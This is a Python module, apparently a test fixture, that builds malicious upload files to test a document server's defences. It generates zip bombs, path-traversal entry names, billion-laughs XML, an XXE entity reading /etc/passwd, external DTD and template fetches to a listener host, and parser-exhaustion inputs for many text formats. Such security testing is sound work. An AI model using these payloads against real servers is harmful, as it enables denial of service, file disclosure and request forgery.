"""The table of attacks: files that attack a server of documents, each with the name that it is uploaded under.

Bytes are made when they are asked for: some have 31 MB. Most are a tenth of what a server accepts, so that all are read within
a minute; work that grows with the square of a file is beyond the reader's CPU time at this size too.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial

MB = 1_000_000
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_OFFICE = "http://schemas.openxmlformats.org"
_TYPES = "application/vnd.openxmlformats-officedocument."
_RELATIONSHIPS = f"{_OFFICE}/officeDocument/2006/relationships"
W = f'xmlns:w="{_OFFICE}/wordprocessingml/2006/main"'
R = f'xmlns:r="{_RELATIONSHIPS}"'
X = f'xmlns="{_OFFICE}/spreadsheetml/2006/main" {R}'
P = f'xmlns:p="{_OFFICE}/presentationml/2006/main"'
A = f'xmlns:a="{_OFFICE}/drawingml/2006/main"'
WP = f'xmlns:wp="{_OFFICE}/drawingml/2006/wordprocessingDrawing"'
M = f'xmlns:m="{_OFFICE}/officeDocument/2006/math"'
_OF_ODF = {name: name for name in ("office", "style", "text", "table", "presentation")}
_OF_ODF |= {"draw": "drawing", "fo": "xsl-fo-compatible", "svg": "svg-compatible"}
ODF = " ".join(f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for prefix, name in _OF_ODF.items())
RUN = "<w:r><w:t>A few words of text</w:t></w:r>"


@dataclass(frozen=True)
class Attack:
    """A file, and what it tries. `chunked`: sent without a length."""

    group: str
    what: str
    name: str
    data: Callable[[], bytes]
    chunked: bool = False


# ---- packages


def package(
    entries: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED, stored: tuple[str, ...] = ()
) -> bytes:
    """A ZIP file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as out:
        for name, data in entries.items():
            out.writestr(name, data, zipfile.ZIP_STORED if name in stored else None)
    return buffer.getvalue()


def document_types(parts: Mapping[str, str]) -> str:
    """The content types of an Office package: those of its parts by name, without what all have in common."""
    return (
        f'<Types xmlns="{_OFFICE}/package/2006/content-types"><Default Extension="rels" ContentType="a/rels"/>'
        '<Default Extension="bin" ContentType="a/b"/>'
        + "".join(f'<Override PartName="/{name}" ContentType="{_TYPES}{kind}+xml"/>' for name, kind in parts.items())
        + "</Types>"
    )


def relationships(targets: Mapping[str, str], *, external: bool = False) -> str:
    """Relationships to parts by their id, which is the type too."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationships xmlns="{_OFFICE}/package/2006/relationships">' + "".join(
        f'<Relationship Id="{id}" Type="{_RELATIONSHIPS}/{id.rstrip("0123456789")}" Target="{target}"{mode}/>'
        for id, target in targets.items()
    ) + "</Relationships>"  # fmt: skip


def docx_entries(document: str | bytes, **more: str | bytes) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": document_types({"word/document.xml": "wordprocessingml.document.main"}),
        "_rels/.rels": relationships({"officeDocument": "/word/document.xml"}),
        "word/document.xml": document,
        **more,
    }


def document(body: str, before: str = "") -> str:
    return f"{before}<w:document {W}><w:body>{body}</w:body></w:document>"


def docx(body: str, before: str = "") -> bytes:
    return package(docx_entries(document(body, before)))


def paragraph(content: str = RUN) -> str:
    return f"<w:p>{content}</w:p>"


def xlsx(rows: str, strings: str, names: str = "") -> bytes:
    kinds = {"xl/workbook.xml": "sheet.main", "xl/one.xml": "worksheet", "xl/strings.xml": "sharedStrings"}
    return package({
        "[Content_Types].xml": document_types({name: f"spreadsheetml.{kind}" for name, kind in kinds.items()}),
        "_rels/.rels": relationships({"officeDocument": "/xl/workbook.xml"}),
        "xl/workbook.xml": f'<workbook {X}><sheets><sheet name="A" sheetId="1" r:id="worksheet1"/></sheets>{names}</workbook>',
        "xl/_rels/workbook.xml.rels": relationships({"worksheet1": "/xl/one.xml", "sharedStrings1": "/xl/strings.xml"}),
        "xl/one.xml": f"<worksheet {X}><sheetData>{rows}</sheetData></worksheet>",
        "xl/strings.xml": f"<sst {X}>{strings}</sst>",
    })  # fmt: skip


_ODF_STYLES = (
    '<style:style style:name="T1" style:family="text"><style:text-properties fo:font-weight="bold" fo:language="en" '
    'fo:country="US"/></style:style>'
)


def flat_opendocument(body: str, kind: str = "text", root: str = "document") -> str:
    return (
        f"<office:{root} {ODF}><office:automatic-styles>{_ODF_STYLES}</office:automatic-styles><office:body>"
        f"<office:{kind}>{body}</office:{kind}></office:body></office:{root}>"
    )


def opendocument(body: str, kind: str = "text", **more: str) -> bytes:
    media_type = f"application/vnd.oasis.opendocument.{kind}"
    content = flat_opendocument(body, kind, "document-content")
    return package({"mimetype": media_type, "content.xml": content, **more}, stored=("mimetype",))


def epub(documents: Mapping[str, str], spine: str = "", before: str = "", toc: str = "", **more: str) -> bytes:
    items = "".join(f'<item id="{name}" href="{name}" media-type="application/xhtml+xml"/>' for name in documents)
    if toc:
        items += '<item id="toc" href="toc.ncx" media-type="application/x-dtbncx+xml"/>'
        more["toc.ncx"] = toc
    spine = spine or "".join(f'<itemref idref="{name}"/>' for name in documents)
    package_document = (
        f'{before}<package xmlns="http://www.idpf.org/2007/opf" xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata>'
        f"<dc:title>A book of words</dc:title><dc:language>en</dc:language></metadata><manifest>{items}</manifest><spine>{spine}</spine></package>"
    )
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="p.opf"'
        ' media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    entries = {"mimetype": "application/epub+zip", "META-INF/container.xml": container, "p.opf": package_document}
    return package({**entries, **documents, **more}, stored=("mimetype",))


PLAIN = partial(docx, paragraph())


def _bomb(size: int, unit: str) -> bytes:
    return docx(unit * (size // len(unit)))


def _nested(depth: int) -> bytes:
    """Packages in packages, each of which holds the one before ten times."""
    inner = PLAIN()
    for _ in range(depth):
        parts = {f"word/embeddings/{number}.docx": inner for number in range(10)}
        inner = package(docx_entries(document(paragraph()), **parts))
    return inner


def _overlapping(files: int, size: int) -> bytes:
    """Entries that all decompress the last one's data: each local header is a stored block of the entry before (Fifield 2019)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = compressor.compress(bytes(size)) + compressor.flush()
    following, data = b"", kernel
    plain = bytes(size)
    crc, length = zlib.crc32(plain), size
    blocks: list[tuple[bytes, int, int, int]] = []  # local header, compressed, crc, size
    for number in reversed(range(files)):
        if following:
            data = struct.pack("<BHH", 0, len(following), 0xFFFF ^ len(following)) + following + data
            plain = following + plain
            crc, length = zlib.crc32(plain), len(plain)
        name = b"%05d" % number
        head = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0x21, crc, len(data), length, len(name), 0)
        following = head + name
        blocks.append((following, len(data), crc, length))
    blocks.reverse()
    directory, at = b"", 0
    for number, (local, compressed, one_crc, one_size) in enumerate(blocks):
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0x21, one_crc, compressed, one_size, 5, 0, 0, 0, 0, 0, at
        ) + b"%05d" % number  # fmt: skip
        at += len(local) + (5 if number < files - 1 else 0)
    body = following + data
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, files, files, len(directory), len(body), 0)
    return body + directory + end


def patched(data: bytes, offset: int, value: bytes) -> bytes:
    """Replace bytes of each entry's header in the directory."""
    changed = bytearray(data)
    at = data.find(b"PK\1\2")
    while at >= 0:
        changed[at + offset : at + offset + len(value)] = value
        at = data.find(b"PK\1\2", at + 1)
    return bytes(changed)


def _named(name: str) -> bytes:
    """A docx with one more entry."""
    return package(docx_entries(document(paragraph()), **{name: b"text"}))


def _with_name(written: bytes, wanted: bytes) -> bytes:
    """The same with a name that `zipfile` would not write."""
    return _named(written.decode()).replace(written, wanted)


_ARCHIVES: dict[str, Callable[[], bytes]] = {
    "flat bomb: 250 MB in one part": lambda: _bomb(250 * MB, " "),
    "flat bomb: 60 MB of empty paragraphs": lambda: _bomb(60 * MB, "<w:p/>"),
    "0.3 MB of empty paragraphs, below the limits": lambda: _bomb(300_000, "<w:p/>"),
    "30 parts of 9.9 MB": lambda: package(
        docx_entries(document(paragraph()), **{f"word/{n}.xml": b" " * int(9.9 * MB) for n in range(30)})
    ),
    "nested bomb: ten packages in each of ten, five deep": lambda: _nested(5),
    "overlapping entries: 300 of 1 MB in one": lambda: _overlapping(300, MB),
    "the directory says less than an entry has": lambda: patched(PLAIN(), 24, struct.pack("<L", 100)),
    "the directory says more than an entry has": lambda: patched(PLAIN(), 24, struct.pack("<L", 4_000)),
    "the directory says 4 GB": lambda: patched(PLAIN(), 24, struct.pack("<L", 0xFFFFFFF0)),
    "a compressed size beyond the file": lambda: patched(PLAIN(), 20, struct.pack("<L", 0x7FFFFFFF)),
    "wrong checksum": lambda: patched(PLAIN(), 16, b"\0\0\0\0"),
    "6,000 entries": lambda: package(docx_entries("", **{f"{n}": b"" for n in range(6_000)})),
    "a name with `..`": lambda: _named("../../../tmp/dragoman-was-here"),
    "an absolute name": lambda: _with_name(b"Xtmp/dragoman", b"/tmp/dragoman"),
    "a name with backslashes": lambda: _named("..\\..\\dragoman"),
    "a name with a drive": lambda: _named("C:/dragoman"),
    "a name of 60,000 characters": lambda: _named("n" * 60_000),
    "one name twice": lambda: _with_name(b"word/documenX.xml", b"word/document.xml"),
    "entries marked as encrypted": lambda: patched(PLAIN(), 8, b"\1\0"),
    "LZMA": lambda: package(docx_entries(document(paragraph())), zipfile.ZIP_LZMA),
    "cut in the middle": lambda: PLAIN()[:400],
    "a directory of zeros": lambda: patched(PLAIN(), 0, bytes(46)),
    "an Office file with a password": lambda: (
        OLE + bytes(4_000) + "EncryptedPackage".encode("utf-16-le") + bytes(9_000)
    ),
    "a doc of Word 97": lambda: OLE + bytes(30_000),
    "a ZIP file that is no docx": lambda: package({"a.txt": b"text"}),
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(5_000),
    "a web page": lambda: b"<html><body><p>Hello</p></body></html>",
    "an empty file": lambda: b"",
    "one byte": lambda: b"P",
}

# ---- XML parts


def _laughs() -> str:
    entities = "".join('<!ENTITY a{} "{}">'.format(n, f"&a{n - 1};" * 10 if n else "ha") for n in range(12))
    return f"<!DOCTYPE w:document [{entities}]>"


def _elements(depth: int) -> str:
    return "<w:a>" * depth + "</w:a>" * depth


def _runs(count: int) -> str:
    return "".join(f"<w:r><w:rPr>{'<w:b/>' * (n % 2)}</w:rPr><w:t>a{n} </w:t></w:r>" for n in range(count))


def _xml_attacks(listener: str) -> dict[str, Callable[[], bytes]]:
    url = f"http://{listener}/"
    external = {
        "word/_rels/document.xml.rels": relationships(
            {name: url + name for name in ("attachedTemplate1", "image1", "hyperlink1", "subDocument1", "frame1")},
            external=True,
        ),
        "word/_rels/settings.xml.rels": relationships({"attachedTemplate1": url + "t.dotm"}, external=True),
    }
    fetched = paragraph(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "{url}a.png"</w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="end"/></w:r>{RUN}'
    )
    return {
        "billion laughs": lambda: docx(paragraph("<w:r><w:t>&a11;</w:t></w:r>"), _laughs()),
        "quadratic entities": lambda: docx(
            paragraph(f"<w:r><w:t>{'&a;' * 50_000}</w:t></w:r>"), f"<!DOCTYPE w [<!ENTITY a '{'x' * 50_000}'>]>"
        ),
        "an entity that is a file of the server": lambda: docx(
            paragraph("<w:r><w:t>&a;</w:t></w:r>"), '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        ),
        "an entity that is fetched": lambda: docx(
            paragraph("<w:r><w:t>&a;</w:t></w:r>"), f'<!DOCTYPE w [<!ENTITY a SYSTEM "{url}">]>'
        ),
        "a DTD that is fetched": lambda: docx(paragraph(), f'<!DOCTYPE w SYSTEM "{url}a.dtd">'),
        "parameter entities that are fetched": lambda: docx(
            paragraph(), f'<!DOCTYPE w [<!ENTITY % a SYSTEM "{url}a.dtd"> %a;]>'
        ),
        "templates, pictures and frames that are fetched": lambda: package(docx_entries(document(fetched), **external)),
        "elements 900 deep": lambda: docx(paragraph(_elements(890))),
        "elements 1,000,000 deep": lambda: docx(paragraph(_elements(1_000_000))),
        "pairs in pairs, 400 deep": lambda: docx(paragraph("<w:hyperlink>" * 400 + RUN + "</w:hyperlink>" * 400)),
        "paragraphs in paragraphs, 400 deep": lambda: docx("<w:p>" * 400 + RUN + "</w:p>" * 400),
        "text boxes in text boxes, 150 deep": lambda: docx(
            "<w:p><w:r><w:pict><w:txbxContent>" * 150 + paragraph() + "</w:txbxContent></w:pict></w:r></w:p>" * 150
        ),
        "10,000 fields that do not end": lambda: docx(
            paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 10_000 + RUN)
        ),
        "20,000 attributes in one tag": lambda: docx(
            "<w:p " + " ".join(f"a{n}='1'" for n in range(20_000)) + f">{RUN}</w:p>"
        ),
        "an attribute of 1 MB": lambda: docx(f'<w:p a="{"x" * MB}">{RUN}</w:p>'),
        "50,000 names of elements": lambda: docx("".join(f"<w:n{n}/>" for n in range(50_000))),
        "10,000 namespaces": lambda: docx("".join(f'<a{n}:a xmlns:a{n}="u{n}"/>' for n in range(10_000))),
        "a text of 0.3 MB of entities": lambda: docx(paragraph(f"<w:r><w:t>{'&amp;' * 60_000}</w:t></w:r>")),
        "a text of 0.45 MB": lambda: docx(paragraph(f"<w:r><w:t>{'word ' * 90_000}</w:t></w:r>")),
        "3,000 runs of two looks in one paragraph": lambda: docx(paragraph(_runs(3_000))),
        "3,000 line breaks in one paragraph": lambda: docx(
            paragraph("<w:r>" + "<w:t>a</w:t><w:br/>" * 3_000 + "</w:r>")
        ),
        "5,000 comments of XML": lambda: docx(paragraph("<!---->" * 5_000 + RUN)),
        "0.6 MB in one part, 1,000 paragraphs": lambda: docx(
            "".join(
                paragraph(
                    '<w:pPr><w:pStyle w:val="a"/></w:pPr>'
                    + "".join(
                        f'<w:r w:rsidR="00A{n % 10}"><w:rPr><w:lang w:val="en-US"/></w:rPr><w:t xml:space="preserve">of text {n % 500} </w:t></w:r>'
                        for n in range(k, k + 5)
                    )
                )
                for k in range(1_000)
            )
        ),
        "not well-formed": lambda: docx("<w:p><w:r></w:p>"),
        "an empty part": lambda: package(docx_entries("")),
        "a part of zeros": lambda: package(docx_entries(bytes(5_000))),
        "a part that says it is UTF-16, and is not": lambda: docx(
            paragraph(), '<?xml version="1.0" encoding="UTF-16"?>'
        ),
        "a part in UTF-7": lambda: docx(paragraph(), '<?xml version="1.0" encoding="UTF-7"?>'),
        "an unknown encoding": lambda: docx(paragraph(), '<?xml version="1.0" encoding="no-such"?>'),
        "half a surrogate": lambda: docx(paragraph("<w:r><w:t>&#xD800;</w:t></w:r>")),
        "a relationship to itself": lambda: package(
            docx_entries(
                document(paragraph()),
                **{"word/_rels/document.xml.rels": relationships({"header1": "/word/document.xml"})},
            )
        ),
        "20,000 relationships": lambda: package(
            docx_entries(
                document(paragraph()),
                **{
                    "word/_rels/document.xml.rels": relationships(
                        {f"header{n}": "/word/document.xml" for n in range(20_000)}
                    )
                },
            )
        ),
    }


def _string(text: str) -> str:
    return f"<si><t>{text}</t></si>"


def _cells(count: int, *, rows: int = 1) -> str:
    row = "".join(f'<c r="A{n}" t="s"><v>{n % 7}</v></c>' for n in range(count))
    return f"<row>{row}</row>" * rows


_SHEETS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "1,200 cells with one text of 1 MB": (
        "xlsx", lambda: xlsx("<row>" + '<c r="A1" t="s"><v>0</v></c>' * 1_200 + "</row>", _string("word " * 200_000))
    ),
    "500,000 line feeds in a cell": (
        "xlsx", lambda: xlsx('<row><c r="A1" t="s"><v>0</v></c></row>', _string("a\n" * 500_000))
    ),
    "500,000 line feeds without text in a cell": (
        "xlsx", lambda: xlsx('<row><c r="A1" t="s"><v>0</v></c></row>', _string("a" + "\n" * 500_000 + "b"))
    ),
    "10,000 cells": (
        "xlsx", lambda: xlsx(_cells(10_000), "".join(_string(f"Words of {n}") for n in range(7)))
    ),
    "16,384 columns in 2 rows": (
        "xlsx", lambda: xlsx(_cells(16_384, rows=2), "".join(_string(f"Words of {n}") for n in range(7)))
    ),
    "100 patterns of 200 wildcards in formulas": (
        "xlsx",
        lambda: xlsx(
            "<row>"
            + "".join(f'<c r="A{n}"><f>COUNTIF(A:A,"{n}{"*aa" * 200}b")</f></c>' for n in range(100))
            + "".join(f'<c r="B{n}" t="s"><v>{n}</v></c>' for n in range(200))
            + "</row>",
            "".join(_string(f"{n}" + "a" * 3_000) for n in range(200)),
        ),
    ),
    "a formula of 0.8 MB of quotes": (
        "xlsx", lambda: xlsx(f"<row><c r='A1'><f>{'&quot;a' * 110_000}</f></c></row>", _string("a word"))
    ),
    "an index of a string that is not there": (
        "xlsx", lambda: xlsx('<row><c r="A1" t="s"><v>999999999999</v></c></row>', _string("a word"))
    ),
    "a row repeated a billion times": (
        "ods",
        lambda: opendocument(
            '<table:table table:name="A"><table:table-row table:number-rows-repeated="1000000000">'
            '<table:table-cell office:value-type="string" table:number-columns-repeated="1000000000"><text:p>Some words</text:p>'
            "</table:table-cell></table:table-row></table:table>",
            "spreadsheet",
        ),
    ),
    "a billion spaces in one element": (
        "odt", lambda: opendocument('<text:p>Some<text:s text:c="1000000000"/>words</text:p>')
    ),
    "spans in spans, 900 deep": (
        "odt", lambda: opendocument(f"<text:p>{'<text:span>' * 900}Some words{'</text:span>' * 900}</text:p>")
    ),
    "paragraphs in notes in paragraphs, 300 deep": (
        "odt",
        lambda: opendocument(
            "<text:p>Some words<text:note><text:note-body>" * 300 + "</text:note-body></text:note></text:p>" * 300
        ),
    ),
    "2,000 spans in one paragraph": (
        "odt", lambda: opendocument(f"<text:p>{'<text:span>a </text:span><text:tab/>' * 2_000}</text:p>")
    ),
    "an odp called odt": ("odt", lambda: opendocument("<text:p>Some words</text:p>", "presentation")),
    "encrypted (a manifest says so)": (
        "odt",
        lambda: package({
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": bytes(500),
            "META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>',
        }),
    ),
    "a flat file 1,000,000 deep": (
        "fodt", lambda: f"<office:document {ODF}>{'<text:section>' * 1_000_000}".encode()
    ),
    "a chapter 10,000 times in the spine": (
        "epub", lambda: epub({"a.html": "<html><body><p>Some words</p></body></html>"}, '<itemref idref="a.html"/>' * 10_000)
    ),
    "490 chapters": (
        "epub", lambda: epub({f"{n}.html": f"<html><body><p>Some words {n}</p></body></html>" for n in range(490)})
    ),
    "entities in the package document": (
        "epub", lambda: epub({"a.html": "<html/>"}, before=_laughs())
    ),
    "a protected book (DRM)": (
        "epub",
        lambda: epub(
            {"a.html": "<html/>"},
            **{
                "META-INF/encryption.xml": '<encryption xmlns="urn:x" xmlns:e="http://www.w3.org/2001/04/xmlenc#"><e:EncryptedData>'
                '<e:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></e:EncryptedData></encryption>'
            },
        ),
    ),
}  # fmt: skip

# ---- text


def _shuffled(size: int) -> bytes:
    return random.Random(1).randbytes(size)


def _text_attacks(listener: str) -> dict[str, tuple[str, Callable[[], bytes]]]:
    def of(extension: str, unit: str, count: int, before: str = "", after: str = "") -> tuple[str, Callable[[], bytes]]:
        return extension, lambda: (before + unit * count + after).encode()

    xliff = '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file source-language="en" target-language="ja"><body>'
    return {
        "0.9 MB on one line": of("txt", "word ", 180_000),
        "0.45 MB on one line": of("txt", "word ", 90_000),
        "900,000 line feeds": of("txt", "\n", 900_000, "a"),
        "0.45 MB without a space": of("txt", "a", 450_000),
        "0.9 MB of invisible characters": of("txt", "\u200b", 300_000, "a", "b"),
        "0.45 MB of placeholders": of("txt", "{a}", 150_000, "word "),
        "a binary file": ("txt", lambda: _shuffled(2 * MB)),
        "0.9 MB of letters of windows-1252": ("txt", lambda: "àéîõü ".encode("cp1252") * 150_000),
        "UTF-16 with half a surrogate": ("txt", lambda: b"\xff\xfe" + "Some words ".encode("utf-16-le") + b"\x00\xd8a\0"),
        "dense Markdown, 50 KB": of("md", "*a* **b** `c` [d](e) ", 2_400),
        "Markdown: 40,000 `[`": of("md", "[", 40_000, "word "),
        "Markdown: 40,000 `*a `": of("md", "*a ", 40_000),
        "Markdown: 50,000 quotes in quotes": of("md", "> ", 50_000, "", "word"),
        "Markdown: lists 2,000 deep": ("md", lambda: "".join(f"{'  ' * n}- word\n" for n in range(2_000)).encode()),
        "Markdown: 300,000 backquotes of all lengths": ("md", lambda: " ".join("`" * n for n in range(775)).encode()),
        "Markdown: a table of 2,000 columns": ("md", lambda: (("|word" * 2_000 + "|\n") + "|-" * 2_000 + "|\n" + "|word" * 2_000).encode()),
        "Markdown: 5,000 references": ("md", lambda: "".join(f"[a{n}]: b\n[a{n}] [a{n}]\n\n" for n in range(5_000)).encode()),
        "Markdown: 20,000 templates that do not end": of("md", "{{ {% {{< ", 20_000, "word "),
        "Markdown: 40,000 links of wikis that do not end": of("md", "[[a|", 40_000, "word "),
        "Markdown: 30,000 formulas that do not end": of("md", "\\(\\[\\begin{a}", 30_000, "word "),
        "Markdown: 20,000 emphases of CJK": of("md", "**点：**", 20_000, "字"),
        "Markdown: 10,000 containers in containers": of("md", ":::note [a\n", 10_000, "word\n\n"),
        "Markdown: 5,000 fences of MyST in fences": of("md", "````{note}\n```{tip} a\n```\n", 5_000, "", "````\nword"),
        "Markdown: tabs 400 deep": ("md", lambda: "".join(f'{"    " * n}=== "word"\n\n' for n in range(400)).encode()),
        "Markdown: 300 KB in a brace of MDX": of("mdx", "{a => '", 40_000, "word {"),
        "Markdown: 20,000 tags of JSX": of("mdx", "<A b={'\"'}>\n", 20_000, "word\n\n"),
        "Markdown: 30,000 exports that do not end": of("mdx", "export const a = {\n", 15_000, "word\n\n"),
        "Markdown: 100,000 characters that are tokens": of("md", "\u2016\U000f0000\U000f0000w\u2016", 25_000, "word "),
        "front matter of 20,000 keys": of("md", "a: b c\n  d e\n", 20_000, "---\n", "---\n\nword"),
        "HTML 20,000 deep": of("html", "<div>", 20_000, "", "word"),
        "HTML: inline tags 20,000 deep": of("html", "<b>", 20_000, "<p>word", " word"),
        "HTML: 1,000,000 `<a `": of("html", "<a ", 1_000_000),
        "HTML: a comment that does not end": of("html", "- ", 4 * MB, "<p>word</p><!--"),
        "HTML: 200,000 attributes in a tag": of("html", 'a="b" ', 200_000, "<p ", ">word</p>"),
        "HTML: 300,000 quotes in a tag": of("html", "a='\"", 300_000, "<p "),
        "HTML: 50,000 entities": of("html", "&notit;", 50_000, "<p>word "),
        "HTML: pictures, frames and styles that are fetched": of(
            "html", f'<img src="http://{listener}/a"><iframe src="http://{listener}/b"></iframe><style>@import "http://{listener}/c";</style>', 10, "<p>word</p>"
        ),
        "JSON 1,000,000 deep": of("json", "[", 1_000_000),
        "JSON: objects 39 deep, 2,000 times": of("json", '{"a":' * 39 + '"Some words"' + "}" * 39 + ",", 2_000, "[", "1]"),
        "JSON: one string of 0.45 MB": of("json", "word ", 90_000, '["', '"]'),
        "JSON: 0.9 MB of escapes": of("json", "\\u0061", 150_000, '["', '"]'),
        "JSON: a note of 4 MB on 500 messages": of("json", '"message":"Some words",', 500, '{"description":"' + "word " * 800_000 + '",', '"b":1}'),
        "JSON: one key 30,000 times": of("json", '"a":"Some words",', 30_000, "{", '"b":1}'),
        "JSON: a number of 5 MB": of("json", "9", 5 * MB, '["Some words",', "]"),
        "JSON: an ICU message 5,000 deep": of("json", "{n, plural, other {", 5_000, '["word ', '"]'),
        "csv: a line of 0.45 MB": of("csv", "word ", 90_000),
        "csv: 100,000 columns": of("csv", "a,", 100_000),
        "csv: a quote that does not end": of("csv", "word, ", 100_000, '"'),
        "csv: 900,000 quotes": of("csv", '"', 899_999),
        "csv: quotes and text in turn": of("csv", '"a"b,', 100_000),
        "csv: 100,000 rows": of("csv", "a\n", 100_000),
        "csv: 40,000 rows of two words": of("csv", "some words\n", 40_000),
        "csv: 20,000 rows of two words": of("csv", "some words\n", 20_000),
        "po: 10,000 entries": ("po", lambda: "".join(f'msgid "Some words {n}"\nmsgstr ""\n\n' for n in range(10_000)).encode()),
        "po: 20,000 strings in an entry": of("po", '"word "\n', 20_000, 'msgid ""\n', 'msgstr ""\n'),
        "po: 100,000 comments": of("po", "#. a\n", 100_000, "", 'msgid "word"\nmsgstr ""\n'),
        "po: plural forms that are none": of("po", "", 1, 'msgid ""\nmsgstr "Plural-Forms: nplurals=9; plural=' + "(" * 10_000 + ';\\n"\n\nmsgid "a word"\nmsgid_plural "words"\nmsgstr[0] ""\n'),
        "srt: 10,000 cues": ("srt", lambda: "".join(f"{n}\n00:00:01,000 --> 00:00:02,000\nSome words {n % 900}\n\n" for n in range(10_000)).encode()),
        "srt: a cue of 50,000 lines": of("srt", "a\n", 50_000, "1\n00:00:01,000 --> 00:00:02,000\n"),
        "srt: 30,000 tags in a cue": of("srt", "<i>a", 30_000, "1\n00:00:01,000 --> 00:00:02,000\n"),
        "vtt: 300,000 arrows": of("vtt", "--> ", 300_000, "WEBVTT\n\n00:01.000 --> 00:02.000\nword "),
        "ass: 300,000 braces": of("ass", "{\\p1}a", 300_000, "[Events]\nFormat: Start, Text\nDialogue: 0,word "),
        "ass: a format of 300,000 fields": of("ass", ",a", 300_000, "[Events]\nFormat: Start", "\nDialogue: 0,word"),
        "xliff: 900 inline elements in each other": of("xlf", "", 1, xliff + "<trans-unit id='1'><source>" + '<g id="1">' * 900 + "word" + "</g>" * 900 + "</source></trans-unit></body></file></xliff>"),
        "xliff: 10,000 inline elements": of("xlf", "<x id='1'/>a", 10_000, f"{xliff}<trans-unit id='1'><source>", "</source></trans-unit></body></file></xliff>"),
        "xliff: an external DTD": of("xlf", "", 1, f'<!DOCTYPE xliff SYSTEM "http://{listener}/x.dtd">{xliff}</body></file></xliff>'),
        "android: 20,000 strings": of("xml", '<string name="a">Some words</string>', 20_000, "<resources>", "</resources>"),
        "android: a CDATA section that does not end": of("xml", "]]", 200_000, '<resources><string name="a"><![CDATA['),
        "an SVG picture": of("xml", "<text>word</text>", 1, "<svg>", "</svg>"),
        "JSON: 3,000 lists of blocks of an editor": of("json", '{"blocks":[{"type":"a","data":{"text":"Some words"}}]},', 3_000, "[", "1]"),
        "JSON: an editor's document of 5,000 paragraphs": of("json", '{"type":"p","content":[{"type":"text","text":"Some words"}]},', 5_000, '{"type":"doc","content":[', '{"type":"p"}]}'),
        "JSON: an editor's nodes in nodes, 2,000 times": of("json", '{"type":"a","content":[' * 19 + '{"type":"text","text":"Some words"}' + "]}" * 19 + ",", 2_000, "[", "1]"),
        "JSON: 3,000 patterns of dates that are none": of("json", '"' + "MM/" * 160 + 'qq", ', 3_000, "[", "1]"),
        "JSON: 3,000 choices by intervals": of("json", '"' + "(1-2)[a word];" * 30 + 'x", ', 3_000, "[", "1]"),
        "properties: 20,000 pairs": of("properties", "a = Some words\n", 20_000),
        "properties: 100,000 continued lines": of("properties", "word \\\n", 100_000, "a = "),
        "properties: 400,001 backslashes": of("properties", "\\", 400_001, "a = word"),
        "properties: 60,000 escapes": of("properties", "\\u0061", 60_000, "a = "),
        "properties: 100,000 choices": of("properties", "{0,choice,", 100_000, "a = word "),
        "strings: 20,000 pairs": of("strings", '"a" = "Some words";\n', 20_000),
        "strings: a comment that does not end": of("strings", "/*", 400_000),
        "strings: 300,000 words without a sign": of("strings", "a ", 300_000),
        "strings: a key before 900,000 spaces": of("strings", " ", 900_000, '"a"'),
        "xcstrings: 8,000 keys": ("xcstrings", lambda: ('{"sourceLanguage":"en","strings":{' + ",".join(f'"Some words {n}":{{}}' for n in range(8_000)) + "}}").encode()),
        "xcstrings: one key 20,000 times": of("xcstrings", '"Some words":{},', 20_000, '{"sourceLanguage":"en","strings":{', '"b":{}}}'),
        "xcstrings: 1,000,000 deep": of("xcstrings", '{"a":', 1_000_000),
        "xcstrings: 10,000 forms of a plural": ("xcstrings", lambda: ('{"sourceLanguage":"en","strings":{"a":{"localizations":{"en":{"variations":{"plural":{' + ",".join(f'"f{n}":{{"stringUnit":{{"value":"Some words {n}"}}}}' for n in range(10_000)) + "}}}}}}}").encode()),
        "resx: 20,000 strings": of("resx", '<data name="a"><value>Some words</value></data>', 20_000, "<root>", "</root>"),
        "resx: billion laughs": of("resx", "<data name='a'><value>&a11;</value></data>", 1, _laughs() + "<root>", "</root>"),
        "ts: 20,000 messages": of("ts", "<message><source>Some words</source></message>", 20_000, "<TS><context>", "</context></TS>"),
        "ts: 50,000 forms of a plural": of("ts", "<numerusform/>", 50_000, '<TS language="ja"><message numerus="yes"><source>Some words</source><translation type="unfinished">', "</translation></message></TS>"),
        "ts: an external DTD": of("ts", "", 1, f'<!DOCTYPE TS SYSTEM "http://{listener}/x.dtd"><TS><message><source>Some words</source></message></TS>'),
        "ts: billion laughs": of("ts", "<message><source>&a11;</source></message>", 1, _laughs() + "<TS>", "</TS>"),
        "yaml: 20,000 pairs": of("yaml", "a: Some words\n", 20_000),
        "yaml: lists 200,000 deep": of("yaml", "- ", 200_000, "", "word"),
        "yaml: brackets 400,000 deep": of("yaml", "[", 400_000, "a: "),
        "yaml: keys 3,000 deep": ("yaml", lambda: "".join(f"{' ' * n}a:\n" for n in range(3_000)).encode()),
